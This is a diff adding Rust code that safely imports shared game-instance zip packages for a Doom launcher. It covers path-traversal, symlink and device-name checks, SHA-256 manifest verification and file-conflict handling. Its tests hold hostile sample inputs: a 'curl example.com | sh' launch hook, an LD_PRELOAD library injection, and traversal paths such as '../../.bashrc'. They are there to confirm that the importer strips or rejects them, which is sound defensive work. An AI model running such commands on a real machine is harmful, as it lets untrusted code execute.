@@ -0,0 +1,833 @@
+use std::fs::{self, File};
+use std::io::{self, Read, Seek};
+use std::path::{Path, PathBuf};
+use std::time;
+
+use anyhow::{Context, Result, bail};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use zip::ZipArchive;
+
+use crate::asset::{Iwad, Mod};
+use crate::hooks::Hooks;
+use crate::instance::Instance;
+use crate::savedir::Savedir;
+use crate::traits::{Movable, Saveable};
+
+#[derive(Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Debug)]
+#[serde(rename_all = "snake_case")]
+pub enum PackagedFileKind {
+    Iwad,
+    Mod,
+    Save,
+    Config,
+}
+
+impl PackagedFileKind {
+    // Going by where the file sits in the archive
+    pub fn from_entry_name(name: &str) -> Option<Self> {
+        let (dir, _) = name.split_once('/')?;
+        if dir == Iwad::get_dir_name() {
+            Some(PackagedFileKind::Iwad)
+        } else if dir == Mod::get_dir_name() {
+            Some(PackagedFileKind::Mod)
+        } else if dir == Savedir::get_dir_name() {
+            Some(PackagedFileKind::Save)
+        } else if dir == Instance::get_dir_name() {
+            Some(PackagedFileKind::Config)
+        } else {
+            None
+        }
+    }
+}
+
+#[derive(Serialize, Deserialize, Clone)]
+pub struct PackagedFile {
+    // Entry name inside the archive, always with `/` separators
+    pub path: String,
+    pub kind: PackagedFileKind,
+    pub size: u64,
+    // Lowercase hex, missing for packages from before format version 2
+    #[serde(default)]
+    pub sha256: Option<String>,
+}
+
+impl PackagedFile {
+    // Describes what's wrong with the archive's copy of this file, if anything
+    fn verify<R: Read + Seek>(&self, archive: &mut ZipArchive<R>) -> Option<String> {
+        let mut entry = match archive.by_name(&self.path) {
+            Ok(entry) => entry,
+            Err(_) => return Some(format!("{} is missing", self.path)),
+        };
+        if entry.size() != self.size {
+            return Some(format!(
+                "{} is {} bytes instead of {}",
+                self.path,
+                entry.size(),
+                self.size
+            ));
+        }
+
+        let expected = self.sha256.as_ref()?;
+        let mut hasher = Sha256::new();
+        // A corrupted entry can also fail zip's own CRC check while reading
+        if let Err(e) = io::copy(&mut entry, &mut hasher) {
+            return Some(format!("{} can't be read: {}", self.path, e));
+        }
+        let actual = format!("{:x}", hasher.finalize());
+        if !actual.eq_ignore_ascii_case(expected) {
+            return Some(format!("{} has SHA-256 {} instead of {}", self.path, actual, expected));
+        }
+        None
+    }
+}
+
+pub fn get_sha256(content: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(content))
+}
+
+fn get_file_sha256(path: &Path) -> Result<String> {
+    let mut file = File::open(path).with_context(|| format!("Failed to read from {}", path.display()))?;
+    let mut hasher = Sha256::new();
+    io::copy(&mut file, &mut hasher).with_context(|| format!("Failed to read from {}", path.display()))?;
+    Ok(format!("{:x}", hasher.finalize()))
+}
+
+fn has_same_content(path: &Path, content: &[u8], sha256: &str) -> Result<bool> {
+    let size = fs::metadata(path)
+        .with_context(|| format!("Failed to read from {}", path.display()))?
+        .len();
+    Ok(size == content.len() as u64 && get_file_sha256(path)? == sha256)
+}
+
+// `mods/gameplay.pk3` → `mods/gameplay-<suffix>.pk3`, keeping the extension last since
+// engines go by it
+fn with_suffix(path: &Path, suffix: &str) -> PathBuf {
+    let stem = path.file_stem().unwrap_or_default().to_string_lossy();
+    let filename = match path.extension() {
+        Some(ext) => format!("{}-{}.{}", stem, suffix, ext.to_string_lossy()),
+        None => format!("{}-{}", stem, suffix),
+    };
+    path.with_file_name(filename)
+}
+
+// What to do when an imported file has the same name as an existing one with different content.
+// Identical files are always reused
+#[derive(Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Debug, Default)]
+#[serde(rename_all = "kebab-case")]
+pub enum ConflictStrategy {
+    // `gameplay-1.pk3`, `gameplay-2.pk3`, ...
+    #[default]
+    Rename,
+    // The imported instance uses whatever is already there
+    KeepExisting,
+    // Other instances using the file get the imported version too
+    Overwrite,
+    // `gameplay-<first 12 digits of the SHA-256>.pk3`, so every version is kept exactly once
+    Versioned,
+}
+
+impl ConflictStrategy {
+    // Writes an archive entry into `data_dir` and returns where its content ended up, relative to
+    // `data_dir`. That's `name` itself unless the strategy put it somewhere else
+    pub fn place_file(self, data_dir: &Path, name: &Path, content: &[u8]) -> Result<PathBuf> {
+        let sha256 = get_sha256(content);
+        let dest = data_dir.join(name);
+        if !dest.exists() {
+            write_file(&dest, content)?;
+            return Ok(name.to_path_buf());
+        }
+        if has_same_content(&dest, content, &sha256)? {
+            return Ok(name.to_path_buf());
+        }
+
+        match self {
+            ConflictStrategy::KeepExisting => Ok(name.to_path_buf()),
+            ConflictStrategy::Overwrite => {
+                write_file(&dest, content)?;
+                Ok(name.to_path_buf())
+            }
+            ConflictStrategy::Rename => {
+                for n in 1.. {
+                    let candidate = with_suffix(name, &n.to_string());
+                    let dest = data_dir.join(&candidate);
+                    if !dest.exists() {
+                        write_file(&dest, content)?;
+                        return Ok(candidate);
+                    }
+                    // Imported before already
+                    if has_same_content(&dest, content, &sha256)? {
+                        return Ok(candidate);
+                    }
+                }
+                unreachable!()
+            }
+            ConflictStrategy::Versioned => {
+                let candidate = with_suffix(name, &sha256[..12]);
+                let dest = data_dir.join(&candidate);
+                if !dest.exists() {
+                    write_file(&dest, content)?;
+                }
+                Ok(candidate)
+            }
+        }
+    }
+}
+
+// Windows refuses these as file names no matter the extension, and packages get shared across systems
+const RESERVED_NAMES: [&str; 22] = [
+    "CON", "PRN", "AUX", "NUL", "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7", "COM8", "COM9", "LPT1",
+    "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9",
+];
+
+// Environment variables a package may bring along. Anything else could load code into the
+// engine, like `LD_PRELOAD` pointing at a packaged `mods/*.so` or `SDL_DYNAMIC_API`
+const IMPORTABLE_ENV: [&str; 8] = [
+    "SDL_VIDEODRIVER",
+    "SDL_AUDIODRIVER",
+    "SDL_VIDEO_MINIMIZE_ON_FOCUS_LOSS",
+    "SDL_JOYSTICK_HIDAPI",
+    "DRI_PRIME",
+    "vblank_mode",
+    "mesa_glthread",
+    "__GL_SYNC_TO_VBLANK",
+];
+
+pub fn is_importable_env(key: &str) -> bool {
+    IMPORTABLE_ENV.contains(&key)
+}
+
+// Hooks are shell commands and the environment can make the engine load arbitrary libraries, a
+// shared package must not be able to run anything on the importing machine. Returns what got
+// dropped so it can be reported
+pub fn strip_unsafe_settings(instance: &mut Instance) -> Vec<String> {
+    let mut dropped: Vec<String> = instance
+        .hooks
+        .pre_launch
+        .iter()
+        .chain(&instance.hooks.post_exit)
+        .map(|command| format!("hook `{}`", command))
+        .collect();
+    instance.hooks = Hooks::default();
+
+    dropped.extend(
+        instance
+            .gamedata
+            .environment
+            .keys()
+            .filter(|key| !is_importable_env(key))
+            .map(|key| format!("environment variable {}", key)),
+    );
+    instance.gamedata.environment.retain(|key, _| is_importable_env(key));
+    dropped
+}
+
+const S_IFMT: u32 = 0o170000;
+const S_IFREG: u32 = 0o100000;
+const S_IFDIR: u32 = 0o040000;
+const S_IFLNK: u32 = 0o120000;
+
+// Why a single path component can't be used, if it can't
+fn check_component(component: &str) -> Option<&'static str> {
+    if component.is_empty() {
+        return Some("empty path component");
+    }
+    if component == "." || component == ".." {
+        return Some("`.` or `..` component");
+    }
+    // Entry names are split on these already, but instance names get joined onto paths as they are
+    if component.contains('/') {
+        return Some("slash in name");
+    }
+    if component.contains('\\') {
+        return Some("backslash in name");
+    }
+    if component.contains(|c: char| c.is_control()) {
+        return Some("control character in name");
+    }
+    let stem = component.split('.').next().unwrap_or_default().trim_end();
+    if RESERVED_NAMES.iter().any(|reserved| stem.eq_ignore_ascii_case(reserved)) {
+        return Some("reserved device name");
+    }
+    None
+}
+
+// Entries may only be the manifest and `instance.toml`, or files directly inside `mods/` and
+// `iwads/`, the instance's own `saves/<name>/` and its `instances/<name>/` data dir
+fn check_entry(name: &str, is_dir: bool, unix_mode: Option<u32>, instance_name: &str) -> Option<&'static str> {
+    if name.starts_with('/') || name.split('/').next().is_some_and(|first| first.ends_with(':')) {
+        return Some("absolute path");
+    }
+    match unix_mode.map(|mode| mode & S_IFMT) {
+        Some(S_IFLNK) => return Some("symlink"),
+        Some(S_IFREG | S_IFDIR) | Some(0) | None => {}
+        Some(_) => return Some("device or other special file"),
+    }
+
+    let components: Vec<&str> = name.strip_suffix('/').unwrap_or(name).split('/').collect();
+    if let Some(problem) = components.iter().find_map(|component| check_component(component)) {
+        return Some(problem);
+    }
+
+    let (mods, iwads, saves, instances) = (
+        Mod::get_dir_name(),
+        Iwad::get_dir_name(),
+        Savedir::get_dir_name(),
+        Instance::get_dir_name(),
+    );
+    let allowed = match (components.as_slice(), is_dir) {
+        ([file], false) => BrimpkgManifest::is_packaged(file),
+        ([dir], true) => *dir == mods || *dir == iwads || *dir == saves || *dir == instances,
+        ([dir, _], false) => *dir == mods || *dir == iwads,
+        ([dir, owner], true) | ([dir, owner, _], false) => {
+            (*dir == saves || *dir == instances) && *owner == instance_name
+        }
+        _ => false,
+    };
+    if !allowed {
+        return Some("outside the mods/, iwads/, saves/ layout");
+    }
+    None
+}
+
+// Paths in `instance.toml` get joined onto the data dir just like entry names, so they
+// can't be allowed to point anywhere else either
+fn check_instance_path(path: &Path) -> Option<&'static str> {
+    if path.is_absolute() {
+        return Some("absolute path");
+    }
+    path.iter()
+        .find_map(|component| check_component(&component.to_string_lossy()))
+}
+
+// The engine writes to the savedir and the config file, so they have to be the instance's own:
+// `<dir>/<name>` itself, or a file directly inside it. A config pointing at a shared IWAD would
+// get it overwritten on exit
+fn check_owned_path(path: &Path, dir: &str, instance_name: &str, is_file: bool) -> Option<&'static str> {
+    if let Some(problem) = check_instance_path(path) {
+        return Some(problem);
+    }
+    let components: Vec<_> = path.iter().collect();
+    let allowed = match (components.as_slice(), is_file) {
+        ([first, owner], false) | ([first, owner, _], true) => *first == dir && *owner == instance_name,
+        _ => false,
+    };
+    if !allowed {
+        return Some("outside the instance's own saves/<name>/ or instances/<name>/");
+    }
+    None
+}
+
+// Every path `instance.toml` points the engine at, described the same way as archive entries
+fn check_instance_paths(instance: &Instance) -> Vec<String> {
+    let name = &instance.metadata.name;
+    let owned_paths = [
+        ("savedir", Some(&instance.gamedata.savedir), Savedir::get_dir_name(), false),
+        ("config_file", instance.gamedata.config_file.as_ref(), Instance::get_dir_name(), true),
+    ];
+    let owned_problems = owned_paths.into_iter().filter_map(|(field, path, dir, is_file)| {
+        let path = path?;
+        Some((field, path, check_owned_path(path, dir, name, is_file)?))
+    });
+    let working_dir_problem = instance
+        .gamedata
+        .working_dir
+        .as_ref()
+        .and_then(|path| Some(("working_dir", path, check_instance_path(path)?)));
+
+    owned_problems
+        .chain(working_dir_problem)
+        .map(|(field, path, problem)| format!("{} = {} in {} ({})", field, path.display(), Instance::FILENAME, problem))
+        .collect()
+}
+
+// Everything that would end up outside the sulphur data dir or in unexpected places, checked
+// before anything is extracted. Lists every offending entry instead of stopping at the first
+pub fn validate_brimpkg(archive: &mut ZipArchive<File>, instance: &Instance) -> Result<()> {
+    let name = &instance.metadata.name;
+    if let Some(problem) = check_component(name) {
+        bail!("brimpkg has an invalid instance name `{}`: {}", name, problem);
+    }
+
+    let mut problems = Vec::new();
+    for i in 0..archive.len() {
+        let file = archive.by_index_raw(i)?;
+        if let Some(problem) = check_entry(file.name(), file.is_dir(), file.unix_mode(), name) {
+            problems.push(format!("{} ({})", file.name().escape_debug(), problem));
+        }
+    }
+    problems.extend(check_instance_paths(instance));
+
+    if !problems.is_empty() {
+        bail!("brimpkg contains unsafe paths:\n{}", problems.join("\n"));
+    }
+    Ok(())
+}
+
+fn write_file(dest: &Path, content: &[u8]) -> Result<()> {
+    if let Some(parent) = dest.parent() {
+        fs::create_dir_all(parent)?;
+    }
+    fs::write(dest, content).with_context(|| format!("Failed to write to {}", dest.display()))
+}
+
+#[derive(Serialize, Deserialize, Clone)]
+pub struct BrimpkgManifest {
+    pub format_version: u32,
+    pub creator: String,
+    pub creator_version: String,
+    pub created: time::SystemTime,
+    #[serde(default)]
+    pub assets: Vec<PackagedFile>,
+}
+
+impl Saveable for BrimpkgManifest {}
+
+impl BrimpkgManifest {
+    pub const FILENAME: &'static str = "manifest.toml";
+    // 0 is what packages without a manifest count as. Bump this whenever `instance.toml`
+    // changes in a way serde defaults can't cover, and add a step to `migrate_instance`
+    pub const FORMAT_VERSION: u32 = 2;
+    // First version with a SHA-256 for every packaged file
+    pub const CHECKSUM_VERSION: u32 = 2;
+
+    pub fn new() -> Self {
+        Self {
+            format_version: Self::FORMAT_VERSION,
+            creator: env!("CARGO_PKG_NAME").to_string(),
+            creator_version: env!("CARGO_PKG_VERSION").to_string(),
+            created: time::SystemTime::now(),
+            assets: Vec::new(),
+        }
+    }
+
+    pub fn add_file(&mut self, path: String, kind: PackagedFileKind, content: &[u8]) {
+        self.assets.push(PackagedFile {
+            path,
+            kind,
+            size: content.len() as u64,
+            sha256: Some(get_sha256(content)),
+        });
+    }
+
+    pub fn is_packaged(name: &str) -> bool {
+        name == Self::FILENAME || name == Instance::FILENAME
+    }
+
+    // Falls back to a version 0 manifest built from the archive's entries for older packages
+    pub fn read_from(archive: &mut ZipArchive<File>) -> Result<Self> {
+        if !archive.file_names().any(|name| name == Self::FILENAME) {
+            return Ok(Self::from_legacy_archive(archive));
+        }
+
+        let mut content = String::new();
+        archive
+            .by_name(Self::FILENAME)
+            .context("Failed to read manifest from brimpkg")?
+            .read_to_string(&mut content)?;
+
+        let manifest = Self::from_toml(content).context("Invalid brimpkg manifest")?;
+        if manifest.format_version > Self::FORMAT_VERSION {
+            bail!(
+                "brimpkg format version {} is newer than the supported version {}, it was created by {} {}",
+                manifest.format_version,
+                Self::FORMAT_VERSION,
+                manifest.creator,
+                manifest.creator_version
+            );
+        }
+        Ok(manifest)
+    }
+
+    fn from_legacy_archive(archive: &mut ZipArchive<File>) -> Self {
+        let mut manifest = Self {
+            format_version: 0,
+            creator: "unknown".to_string(),
+            creator_version: "unknown".to_string(),
+            created: time::UNIX_EPOCH,
+            assets: Vec::new(),
+        };
+
+        for i in 0..archive.len() {
+            let Ok(file) = archive.by_index(i) else {
+                continue;
+            };
+            if file.is_dir() || Self::is_packaged(file.name()) {
+                continue;
+            }
+            if let Some(kind) = PackagedFileKind::from_entry_name(file.name()) {
+                manifest.assets.push(PackagedFile {
+                    path: file.name().to_string(),
+                    kind,
+                    size: file.size(),
+                    sha256: None,
+                });
+            }
+        }
+        manifest
+    }
+
+    // Every file the manifest lists has to be in the archive with the recorded size and checksum,
+    // and since checksums exist nothing may be in the archive without being listed. Meant to run
+    // before anything gets extracted, so a corrupted download leaves no half-imported instance
+    // behind. Packages from before checksums only get their sizes checked
+    pub fn verify<R: Read + Seek>(&self, archive: &mut ZipArchive<R>) -> Result<()> {
+        let mut problems: Vec<String> = self.assets.iter().filter_map(|file| file.verify(archive)).collect();
+
+        if self.format_version >= Self::CHECKSUM_VERSION {
+            let unchecked = self
+                .assets
+                .iter()
+                .filter(|file| file.sha256.is_none())
+                .map(|file| format!("{} has no checksum", file.path));
+            problems.extend(unchecked);
+
+            let unlisted: Vec<String> = archive
+                .file_names()
+                .filter(|name| !name.ends_with('/') && !Self::is_packaged(name))
+                .filter(|name| !self.assets.iter().any(|file| file.path == *name))
+                .map(|name| format!("{} isn't listed in the manifest", name))
+                .collect();
+            problems.extend(unlisted);
+        }
+
+        if !problems.is_empty() {
+            bail!("brimpkg failed verification:\n{}", problems.join("\n"));
+        }
+        Ok(())
+    }
+
+    // Brings an `instance.toml` written for this manifest's format version up to the current one
+    pub fn migrate_instance(&self, instance_toml: String) -> Result<Instance> {
+        let mut value: toml::Value = toml::from_str(&instance_toml).context("Failed to deserialize from TOML")?;
+
+        for version in self.format_version..Self::FORMAT_VERSION {
+            value = match version {
+                // Version 1 only added the manifest itself, every field added to `Instance` since
+                // the first packages has a serde default
+                0 => value,
+                // Version 2 only added checksums to the manifest
+                1 => value,
+                _ => bail!("No migration from brimpkg format version {}", version),
+            };
+        }
+
+        value.try_into().context("Failed to read instance from brimpkg")
+    }
+}
+
+impl Default for BrimpkgManifest {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use super::*;
+
+    const FILE_MODE: Option<u32> = Some(S_IFREG | 0o644);
+
+    fn check(name: &str) -> Option<&'static str> {
+        check_entry(name, name.ends_with('/'), FILE_MODE, "test")
+    }
+
+    #[test]
+    fn accepts_expected_layout() {
+        for name in [
+            "manifest.toml",
+            "instance.toml",
+            "mods/",
+            "mods/gameplay.pk3",
+            "iwads/doom2.wad",
+            "saves/test/",
+            "saves/test/save0.zds",
+            "instances/test/config.ini",
+        ] {
+            assert_eq!(check(name), None, "{}", name);
+        }
+        assert_eq!(check_entry("mods/gameplay.pk3", false, None, "test"), None);
+    }
+
+    #[test]
+    fn rejects_parent_components() {
+        assert!(check("../../.bashrc").is_some());
+        assert!(check("mods/../../x").is_some());
+        assert!(check("saves/test/../../../x").is_some());
+        assert!(check("a/../b").is_some());
+        assert!(check("mods/./x.pk3").is_some());
+    }
+
+    #[test]
+    fn rejects_absolute_paths() {
+        assert_eq!(check("/etc/passwd"), Some("absolute path"));
+        assert_eq!(check("C:/Windows/x"), Some("absolute path"));
+        assert!(check("mods//x.pk3").is_some());
+    }
+
+    #[test]
+    fn rejects_links_and_special_files() {
+        assert_eq!(check_entry("mods/x.pk3", false, Some(S_IFLNK | 0o777), "test"), Some("symlink"));
+        // Character device
+        assert!(check_entry("mods/x.pk3", false, Some(0o020000 | 0o644), "test").is_some());
+    }
+
+    #[test]
+    fn rejects_device_names() {
+        assert_eq!(check("mods/CON"), Some("reserved device name"));
+        assert_eq!(check("mods/nul.pk3"), Some("reserved device name"));
+        assert_eq!(check("iwads/Com1.wad"), Some("reserved device name"));
+        assert_eq!(check("mods/console.pk3"), None);
+    }
+
+    #[test]
+    fn rejects_other_layouts() {
+        assert!(check("foo.txt").is_some());
+        assert!(check("mods/a/b.pk3").is_some());
+        assert!(check("saves/other/x.zds").is_some());
+        assert!(check("instances/other/config.ini").is_some());
+        assert!(check("mods\\..\\x").is_some());
+    }
+
+    #[test]
+    fn checks_components() {
+        assert_eq!(check_component("test"), None);
+        assert_eq!(check_component("My Instance"), None);
+        assert!(check_component("").is_some());
+        assert!(check_component(".").is_some());
+        assert!(check_component("..").is_some());
+        assert!(check_component("../../escape").is_some());
+        assert!(check_component("a/../b").is_some());
+        assert!(check_component("a/b").is_some());
+        assert!(check_component("a\\b").is_some());
+        assert!(check_component("a\nb").is_some());
+        assert!(check_component("AUX").is_some());
+    }
+
+    // Removed again on drop, named after the test so parallel tests don't share one
+    struct TempDir(PathBuf);
+
+    impl TempDir {
+        fn new(name: &str) -> Self {
+            let path = std::env::temp_dir().join(format!("sulphur-test-{}-{}", std::process::id(), name));
+            let _ = fs::remove_dir_all(&path);
+            fs::create_dir_all(&path).unwrap();
+            Self(path)
+        }
+
+        fn write(&self, name: &str, content: &[u8]) {
+            write_file(&self.0.join(name), content).unwrap();
+        }
+
+        fn read(&self, name: &str) -> Vec<u8> {
+            fs::read(self.0.join(name)).unwrap()
+        }
+    }
+
+    impl Drop for TempDir {
+        fn drop(&mut self) {
+            let _ = fs::remove_dir_all(&self.0);
+        }
+    }
+
+    const STRATEGIES: [ConflictStrategy; 4] = [
+        ConflictStrategy::Rename,
+        ConflictStrategy::KeepExisting,
+        ConflictStrategy::Overwrite,
+        ConflictStrategy::Versioned,
+    ];
+
+    #[test]
+    fn places_new_and_identical_files_as_they_are() {
+        for strategy in STRATEGIES {
+            let dir = TempDir::new(&format!("identical-{:?}", strategy));
+            let name = Path::new("mods/gameplay.pk3");
+            assert_eq!(strategy.place_file(&dir.0, name, b"content").unwrap(), name);
+            assert_eq!(dir.read("mods/gameplay.pk3"), b"content");
+
+            assert_eq!(strategy.place_file(&dir.0, name, b"content").unwrap(), name);
+            assert_eq!(fs::read_dir(dir.0.join("mods")).unwrap().count(), 1, "{:?}", strategy);
+        }
+    }
+
+    #[test]
+    fn keeps_existing_file() {
+        let dir = TempDir::new("keep-existing");
+        dir.write("mods/gameplay.pk3", b"old");
+        let name = Path::new("mods/gameplay.pk3");
+        assert_eq!(ConflictStrategy::KeepExisting.place_file(&dir.0, name, b"new").unwrap(), name);
+        assert_eq!(dir.read("mods/gameplay.pk3"), b"old");
+    }
+
+    #[test]
+    fn overwrites_existing_file() {
+        let dir = TempDir::new("overwrite");
+        dir.write("mods/gameplay.pk3", b"old");
+        let name = Path::new("mods/gameplay.pk3");
+        assert_eq!(ConflictStrategy::Overwrite.place_file(&dir.0, name, b"new").unwrap(), name);
+        assert_eq!(dir.read("mods/gameplay.pk3"), b"new");
+    }
+
+    #[test]
+    fn renames_and_reuses_renamed_files() {
+        let dir = TempDir::new("rename");
+        dir.write("mods/gameplay.pk3", b"old");
+        let name = Path::new("mods/gameplay.pk3");
+        let first = Path::new("mods/gameplay-1.pk3");
+
+        assert_eq!(ConflictStrategy::Rename.place_file(&dir.0, name, b"new").unwrap(), first);
+        assert_eq!(dir.read("mods/gameplay.pk3"), b"old");
+        assert_eq!(dir.read("mods/gameplay-1.pk3"), b"new");
+
+        // Importing the same version again goes to the copy from last time
+        assert_eq!(ConflictStrategy::Rename.place_file(&dir.0, name, b"new").unwrap(), first);
+        assert_eq!(
+            ConflictStrategy::Rename.place_file(&dir.0, name, b"newer").unwrap(),
+            Path::new("mods/gameplay-2.pk3")
+        );
+        assert_eq!(dir.read("mods/gameplay-2.pk3"), b"newer");
+    }
+
+    #[test]
+    fn versions_and_reuses_versioned_files() {
+        let dir = TempDir::new("versioned");
+        dir.write("mods/gameplay.pk3", b"old");
+        let name = Path::new("mods/gameplay.pk3");
+        let versioned = PathBuf::from(format!("mods/gameplay-{}.pk3", &get_sha256(b"new")[..12]));
+
+        assert_eq!(ConflictStrategy::Versioned.place_file(&dir.0, name, b"new").unwrap(), versioned);
+        assert_eq!(dir.read("mods/gameplay.pk3"), b"old");
+        assert_eq!(fs::read(dir.0.join(&versioned)).unwrap(), b"new");
+
+        assert_eq!(ConflictStrategy::Versioned.place_file(&dir.0, name, b"new").unwrap(), versioned);
+        assert_eq!(fs::read_dir(dir.0.join("mods")).unwrap().count(), 2);
+    }
+
+    fn zip(entries: &[(&str, &[u8])]) -> ZipArchive<io::Cursor<Vec<u8>>> {
+        let mut zip = zip::ZipWriter::new(io::Cursor::new(Vec::new()));
+        for (name, content) in entries {
+            zip.start_file(*name, zip::write::FileOptions::default()).unwrap();
+            zip.write_all(content).unwrap();
+        }
+        ZipArchive::new(zip.finish().unwrap()).unwrap()
+    }
+
+    fn manifest(files: &[(&str, &[u8])]) -> BrimpkgManifest {
+        let mut manifest = BrimpkgManifest::new();
+        for (name, content) in files {
+            manifest.add_file(name.to_string(), PackagedFileKind::Mod, content);
+        }
+        manifest
+    }
+
+    #[test]
+    fn verifies_intact_package() {
+        let files: [(&str, &[u8]); 2] = [("mods/a.pk3", b"a"), ("mods/b.pk3", b"bb")];
+        let mut archive = zip(&[("instance.toml", b""), ("mods/a.pk3", b"a"), ("mods/b.pk3", b"bb")]);
+        assert!(manifest(&files).verify(&mut archive).is_ok());
+    }
+
+    #[test]
+    fn rejects_size_mismatch() {
+        let mut archive = zip(&[("mods/a.pk3", b"aaa")]);
+        let error = manifest(&[("mods/a.pk3", b"a")]).verify(&mut archive).unwrap_err();
+        assert!(error.to_string().contains("mods/a.pk3 is 3 bytes instead of 1"), "{}", error);
+    }
+
+    #[test]
+    fn rejects_hash_mismatch() {
+        let mut archive = zip(&[("mods/a.pk3", b"b")]);
+        let error = manifest(&[("mods/a.pk3", b"a")]).verify(&mut archive).unwrap_err();
+        assert!(error.to_string().contains("mods/a.pk3 has SHA-256"), "{}", error);
+    }
+
+    #[test]
+    fn rejects_missing_entry() {
+        let mut archive = zip(&[("mods/a.pk3", b"a")]);
+        let error = manifest(&[("mods/a.pk3", b"a"), ("mods/b.pk3", b"b")]).verify(&mut archive).unwrap_err();
+        assert!(error.to_string().contains("mods/b.pk3 is missing"), "{}", error);
+    }
+
+    #[test]
+    fn rejects_unlisted_entry() {
+        let mut archive = zip(&[("mods/a.pk3", b"a"), ("mods/extra.pk3", b"x")]);
+        let error = manifest(&[("mods/a.pk3", b"a")]).verify(&mut archive).unwrap_err();
+        assert!(error.to_string().contains("mods/extra.pk3 isn't listed"), "{}", error);
+
+        // Packages from before checksums never listed everything
+        let mut legacy = manifest(&[("mods/a.pk3", b"a")]);
+        legacy.format_version = 1;
+        assert!(legacy.verify(&mut archive).is_ok());
+    }
+
+    fn instance(extra: &str) -> Instance {
+        let toml = format!(
+            r#"
+            [metadata]
+            name = "test"
+            playtime = {{ secs = 0, nanos = 0 }}
+
+            [gamedata]
+            iwads = []
+            mods = []
+            savedir = "saves/test"
+            additional_params = []
+            {}
+            "#,
+            extra
+        );
+        toml::from_str(&toml).unwrap()
+    }
+
+    #[test]
+    fn strips_hooks_and_unsafe_environment() {
+        let mut instance = instance(
+            r#"
+            environment = { LD_PRELOAD = "mods/evil.so", SDL_VIDEODRIVER = "wayland" }
+
+            [hooks]
+            pre_launch = ["curl example.com | sh"]
+            "#,
+        );
+        let dropped = strip_unsafe_settings(&mut instance);
+        assert_eq!(dropped.len(), 2);
+        assert!(instance.hooks.is_empty());
+        assert_eq!(instance.gamedata.environment.keys().collect::<Vec<_>>(), ["SDL_VIDEODRIVER"]);
+    }
+
+    #[test]
+    fn checks_instance_paths() {
+        assert_eq!(check_instance_path(Path::new("saves/test")), None);
+        assert!(check_instance_path(Path::new("/home/me")).is_some());
+        assert!(check_instance_path(Path::new("saves/../../x")).is_some());
+        assert!(check_instance_paths(&instance(r#"working_dir = "instances/test""#)).is_empty());
+        assert_eq!(check_instance_paths(&instance(r#"working_dir = "../x""#)).len(), 1);
+    }
+
+    #[test]
+    fn requires_own_savedir() {
+        assert!(check_instance_paths(&instance("")).is_empty());
+        for savedir in ["mods", "saves", "saves/other", "saves/test/nested", "instances/test"] {
+            let mut instance = instance("");
+            instance.gamedata.savedir = PathBuf::from(savedir);
+            assert_eq!(check_instance_paths(&instance).len(), 1, "{}", savedir);
+        }
+    }
+
+    #[test]
+    fn requires_own_config_file() {
+        assert!(check_instance_paths(&instance(r#"config_file = "instances/test/config.ini""#)).is_empty());
+        for config_file in [
+            "iwads/doom2.wad",
+            "instances/other/config.ini",
+            "instances/test",
+            "instances/test/nested/config.ini",
+            "config.ini",
+        ] {
+            let instance = instance(&format!("config_file = \"{}\"", config_file));
+            assert_eq!(check_instance_paths(&instance).len(), 1, "{}", config_file);
+        }
+    }
+}